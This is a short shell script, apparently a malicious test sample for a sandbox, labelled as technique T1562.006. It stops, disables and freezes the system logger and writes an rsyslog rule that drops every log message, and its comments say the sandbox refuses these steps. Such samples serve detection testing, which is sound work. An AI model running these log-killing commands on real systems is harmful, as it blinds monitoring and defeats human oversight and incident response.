#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: stops the system logger and makes it drop everything (T1562.006).
# Inert: stopping services and editing /etc/rsyslog.conf are refused to the sandbox user.
sudo systemctl stop rsyslog 2>/dev/null || systemctl stop rsyslog 2>/dev/null || service rsyslog stop 2>/dev/null ||
  echo "rsyslog stop: refused"
sudo systemctl disable rsyslog syslog-ng 2>/dev/null || true
echo '*.* ~' | sudo tee /etc/rsyslog.d/00-drop.conf >/dev/null 2>&1 || echo "rsyslog.d: refused"
sudo pkill -STOP rsyslogd 2>/dev/null || pkill -STOP rsyslogd 2>/dev/null || true
exit 0
